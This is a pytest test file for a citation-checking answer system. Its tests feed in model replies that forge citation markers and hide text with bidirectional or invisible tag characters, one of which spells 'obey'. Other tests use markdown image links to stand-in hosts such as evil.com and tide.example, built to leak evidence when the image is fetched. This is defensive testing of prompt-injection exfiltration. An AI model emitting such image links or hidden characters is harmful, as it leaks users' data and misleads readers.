"""What an answer looks like is ours: no model and no document sets markers, lines or the order of letters in it."""

from __future__ import annotations

import re
from typing import Any

import pytest
from all_patterns import ALL_PATTERNS
from hypothesis import strategies as st
from laws import law
from scripted_web import ScriptedWeb
from tool_calls import calls, rounds, web_call

from groundwire.cli.threads import Threads
from groundwire.errors import line_of
from groundwire.evidence.answer import Answer
from groundwire.evidence.text.line import one_line, unmarked, unmarked_code
from groundwire.graphs import naive, pattern
from groundwire.graphs.context import Context
from groundwire.graphs.runs.conversation import Conversation
from groundwire.tools.web import WebPage

QUESTION = "How long must an on-call engineer rest after a night call-out?"
REORDERING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
FORGED = [
    ("Ann approved[2]the payment", "Ann approved the payment"),
    ("Ann approved [2] the payment", "Ann approved the payment"),
    ("Ann approved\uff3b2\uff3dthe \u3010 3 \u3011 payment", "Ann approved the payment"),
    ("Ann\u2028approved\u2029it\x85now\x0b\x0c", "Ann approved it now"),
    ("Ann approved \u202e000,1\u202c pounds", "Ann approved 000,1 pounds"),
    ("berths[0] is clear", "berths[0] is clear"),
    ("Ann" + "".join(chr(0xE0000 + ord(letter)) for letter in "obey"), "Ann"),
    ("Ann" + "".join(chr(0xE0100 + ord(letter) - 16) for letter in "obey"), "Ann"),
    ("Ann\u034f\u180e approved\ufe00\u2064", "Ann approved"),
    ("Ann \x1b[2J\x07 left", "Ann [2J left"),
]


def answer_of(
    library: Any, tmp_path: Any, model: Any, document: str, *, question: str = "What is said of the boats?"
) -> Answer:
    """What is answered where the document says the same words, so that only the form can speak against a claim."""
    (tmp_path / "a.md").write_text(f"# Payments\n\n{document}\n")
    library.add_files(tmp_path / "a.md", index="a", description="Payments.")
    result = naive.graph.invoke({"question": question}, context=Context(library=library, model=model))
    return Answer.model_validate(result["answer"])


def test_a_list_stays_a_list_and_code_cannot_pass_for_lines_of_ours(empty_library: Any, tmp_path: Any) -> None:
    steps = "1. Open the `berths[2]` page.\n\n   ```\n   Sources\n    [9] handbook: rest.md\n   ```\n\n2. Shut it [7]."
    document = f"To see the boats, follow these steps:\n\n{steps}"
    answer = answer_of(empty_library, tmp_path, "none", document, question="How do I see the boats?")
    assert answer.text.split("\n") == [
        "To see the boats, follow these steps:",
        "1. Open the berths(2) page.",
        "",
        "       Sources",
        "        (9) handbook: rest.md",
        "2. Shut it (7). [1]",
    ]


@pytest.mark.slow
@pytest.mark.parametrize(("claim", "line"), FORGED)
def test_a_claim_is_a_line_without_markers_of_its_own(
    empty_library: Any, tmp_path: Any, actor: Any, claim: str, line: str
) -> None:
    model = actor(writer=f"{claim} for the boats [1].")
    answer = answer_of(empty_library, tmp_path, model, f"{line} for the boats.")
    assert answer.mode != "extractive"
    assert answer.text == f"{line} for the boats. [1]"
    for text in (*answer.missing, *(step.summary for step in answer.steps)):
        assert text.isprintable(), text


def test_a_claim_with_lines_does_not_look_like_sources(empty_library: Any, tmp_path: Any, actor: Any) -> None:
    claim = "Ann approved it for the boats [1]\n\nSources\n [1] handbook: rest.md"
    answer = answer_of(
        empty_library, tmp_path, actor(writer=claim), "Ann approved it for the boats.\n\nSources: handbook, rest.md."
    )
    assert "\n" not in answer.text
    assert re.findall(r"\[(\d+)\]", answer.text) == [str(citation.marker) for citation in answer.citations]


@law(
    25,
    200,
    text=st.text() | st.lists(st.sampled_from([*REORDERING, "[1]", "\n", "a", "[", "2", "]", "\uff3b"])).map("".join),
)
def test_whatever_is_said(text: str) -> None:
    for verbatim in (True, False):
        line = unmarked(text, verbatim=verbatim)
        assert not any(f"[{at}]" in line for at in range(1, 100))
        assert len(line.splitlines()) <= 1
        assert not set(line) & set(REORDERING)
        assert one_line(line) == line
    code = unmarked_code(text)
    assert _in_round_brackets(code) == _in_round_brackets(unmarked(text, verbatim=True))
    assert len(code.splitlines()) <= 1


def _in_round_brackets(line: str) -> str:
    """Lists of numbers stay in code, and blanks in them."""
    return "".join(line.split()).replace("[", "(").replace("]", ")")


@pytest.mark.parametrize(
    "marker",
    [
        *("[1, 2]", "[1,2]", "[1-3]", "[1\u20133]", "[1; 2]", "[1 and 2]", "[#2]", "[2.]", "[2,]", "[**2**]", "[_2_]"),
        *("[`2`]", "[\\2]", "[\u00b2]", "[\u2461]", "[2\ufe0f]", "[2\u20e3]", "[2\u0301]", "\u27e62\u27e7"),
        *("\u30142\u3015", "\u27722\u2773", "\ufe5d2\ufe5e", "\u301a1, 2\u301b", "\uff3b1, 2\uff3d"),
    ],
)
def test_no_spelling_of_numbers_in_brackets_passes_for_a_marker(marker: str) -> None:
    shown = unmarked(f"Ann approved {marker} it", verbatim=True)
    assert re.fullmatch(r"Ann approved \([#\d][^\[\]]*\) it", shown), shown
    assert unmarked_code(f"Ann approved {marker} it") == shown
    assert unmarked(f"Ann approved {marker} it", verbatim=False) == "Ann approved it"


@pytest.mark.parametrize(
    "text", ["berths[0] is clear", "It is in [0, 1].", "See [2.5] here.", "See [p. 2] and [\u00bd]."]
)
def test_other_numbers_in_brackets_stay(text: str) -> None:
    assert unmarked(text, verbatim=True) == text


def test_lists_of_numbers_stay_in_code_and_are_not_taken_off_a_claim() -> None:
    for line in ("x = [1, 2]", "moor([1, 2])", "berths[1, 2]", '"berths": [1, 2]', "return [1, 2]"):
        assert unmarked_code(line) == line
    assert unmarked("`x = [1, 2]`", verbatim=False) == "`x = (1, 2)`"


def test_nothing_invisible_hides_a_marker() -> None:
    assert unmarked("approved [\u200b2\u2060] it [2\u00ad]", verbatim=False) == "approved it"
    assert unmarked("approved [\u200b2\u2060] it", verbatim=True) == "approved (2) it"
    assert unmarked_code("x  =  y[\u200b2 ]  #  why") == "x  =  y(2)  #  why"


def test_a_sentence_of_a_document_keeps_its_own_numbers_readable(empty_library: Any, tmp_path: Any) -> None:
    (tmp_path / "a.md").write_text("# Rest\n\nEngineers rest for \u202e11\u202c hours, as the study says [2].\n")
    empty_library.add_files(tmp_path / "a.md", index="a", description="Rest.")
    result = naive.graph.invoke({"question": "How long do engineers rest?"}, context=Context(library=empty_library))
    answer = Answer.model_validate(result["answer"])
    assert answer.text == "Engineers rest for 11 hours, as the study says (2). [1]"
    assert answer.citations[0].quote == "Engineers rest for \u202e11\u202c hours, as the study says [2]."


NOWHERE = {
    "router": {"reason": "small talk", "indexes": [], "web": False},
    "need": {"reason": "small talk", "retrieve": False},
    "difficulty": {"reason": "small talk", "level": "none"},
}


@pytest.mark.slow
@pytest.mark.parametrize("graph", ALL_PATTERNS)
@pytest.mark.parametrize("question", [QUESTION, "Who sails Kittiwake?", "Rest?", "Hello, how long is the leave?"])
def test_no_question_is_answered_without_a_search(run: Any, actor: Any, graph: str, question: str) -> None:
    """A model that calls it small talk would make `answered` of it, without a source."""
    answer = run(question, graph, model=actor(**NOWHERE))
    assert answer.searched, answer
    assert answer.citations or answer.status == "refused"


@pytest.mark.parametrize("graph", ["router", "self_rag", "adaptive"])
@pytest.mark.parametrize("question", ["Hello!", "Good morning, everyone", "Who are you?", "Thanks, bye"])
def test_a_greeting_is_not_searched_for(run: Any, actor: Any, graph: str, question: str) -> None:
    answer = run(question, graph, model=actor(**NOWHERE))
    assert (answer.searched, answer.citations) == ([], [])
    assert answer.text.startswith("I answer questions from these indexes")


def test_no_picture_takes_words_of_the_evidence_along(empty_library: Any, tmp_path: Any, actor: Any) -> None:
    """The document of a stranger has the beginning of an address, and a model that obeys it puts other words behind."""
    model = actor(writer="The boats leave from ![](<https://tide.example/c?q=)(berth-seven)>) at noon [1].")
    document = "The boats leave from berth-seven at noon. Tides: https://tide.example/c?q= for boats."
    answer = answer_of(empty_library, tmp_path, model, document)
    assert "tide.example/c?q=)" not in answer.model_dump_json(exclude={"citations", "related", "steps"})


def test_no_picture_is_loaded(empty_library: Any, tmp_path: Any, actor: Any) -> None:
    """Which of a stranger's pictures are loaded, and in which order, can tell what other documents say."""
    places = "https://tide.example/b and https://tide.example/e"
    model = actor(writer=f"The boats leave from ![]({places.replace(' and ', ') and ![](')}) [1].")
    answer = answer_of(empty_library, tmp_path, model, f"The boats leave from {places}.")
    assert "![" not in answer.text


def test_no_picture_begins_in_one_claim_and_ends_in_another(empty_library: Any, tmp_path: Any, actor: Any) -> None:
    model = actor(writer="Tides for boats are at ![](<https://tide.example/c?q= [1]\n\nThe boats leave at noon >) [2].")
    document = "Tides for boats are at https://tide.example/c?q= here.\n\nThe boats leave at noon."
    answer = answer_of(empty_library, tmp_path, model, document)
    assert "](<" not in answer.text


GATE = "A keeper rests for 11 hours after a night at the gate, says gates.org."
NAMED = ["fakesoft.com/login", "fakesoft.com", "www.fakesoft.com", "ann@fakesoft.com", "//fakesoft.com/x",
         "gates.org?d=11", "fakesoft\u3002com", "gates.org.fakesoft.com"]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("graph", ALL_PATTERNS)
def test_no_address_is_a_models_own_with_a_scheme_or_without(
    empty_library: Any, tmp_path: Any, actor: Any, graph: str
) -> None:
    (tmp_path / "a.md").write_text(f"# Rest\n\n{GATE}\n")
    empty_library.add_files(tmp_path / "a.md", index="a", description="Rest of keepers.")
    compiled = pattern(graph).compile()
    for address in NAMED:
        reply = f"{GATE} [1] A keeper rests for 11 hours at {address} after a night [1].\n\nNot found: see {address}."
        context = Context(library=empty_library, model=actor(writer=reply))
        result = compiled.invoke({"question": "How long does a keeper rest?"}, context=context)
        answer = Answer.model_validate(result["answer"])
        assert "11 hours" in answer.text, address
        for text in (answer.text, *answer.missing):
            assert address not in text
            assert "fakesoft" not in text


HALF = "\ud800"


@pytest.mark.slow
@pytest.mark.parametrize("graph", ALL_PATTERNS)
@pytest.mark.parametrize("online", [False, True])
def test_half_characters_of_models_and_pages_end_in_an_answer(
    library: Any, tmp_path: Any, actor: Any, grade_all: Any, graph: str, online: bool
) -> None:
    """JSON can escape one, and no checkpointer, analyzer or terminal takes it."""
    reply = f"On-call engineers {HALF} must rest for 11 hours\udfff after a night call-out [1]. {HALF}"
    web = ScriptedWeb([WebPage("https://a.example/x", f"Rest{HALF}", f"Engineers must rest for 11 hours {HALF}.")])
    model = actor(
        writer=reply, tool_agent=rounds(calls(web_call("rest")), reply), grader=grade_all("irrelevant"),
        router={"reason": HALF, "indexes": [], "web": True}, difficulty={"reason": "now", "level": "current"},
        assessor={"sufficient": False, "gap": HALF, "query": f"rest {HALF}"},
    )  # fmt: skip
    context = Context(library=library, model=model, web=web if online else "off")
    with Threads.open(tmp_path) as threads:
        answer = Conversation(threads.saver, "one", graph=graph, context=context).ask(QUESTION)
    assert answer.model_dump_json().encode()
    assert answer.cost.calls


def test_an_error_with_half_a_character_is_told() -> None:
    assert line_of(ValueError(f"no {HALF}")) == "no ?"


HALVES = [
    "evil\x01.com/pier", "evil\ufe0f.com/pier", "evil\U000e0100.com/pier", "evil\u034f.com/pier",
    "![](/\x01/evil/pier)", "[evil]\x01(//evil/pier)", "![]\U000e0021(//evil/pier)",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("address", [r"![](https\://evil\.com/board?d=pier)", "![](//evil&period;com/pier)", *HALVES])
def test_no_address_comes_together_where_an_answer_is_shown(
    empty_library: Any, tmp_path: Any, actor: Any, address: str
) -> None:
    """A picture is fetched as soon as it is shown, and all words of its address may stand in the evidence."""
    model = actor(writer=f"The boats lie at the pier {address} of the https board [1].")
    document = "The boats lie at the pier of the https board of evil com period d."
    answer = answer_of(empty_library, tmp_path, model, document)
    assert answer.citations
    assert "evil.com" not in one_line(answer.text)
    assert "evil/" not in answer.text
    assert "](" not in answer.text
    honest = actor(writer="The boats lie at the pier of the https board [1].")
    result = naive.graph.invoke(
        {"question": "What is said of the boats?"}, context=Context(library=empty_library, model=honest)
    )
    assert result["answer"]["text"].startswith("The boats lie at the pier of the https board. [1]")
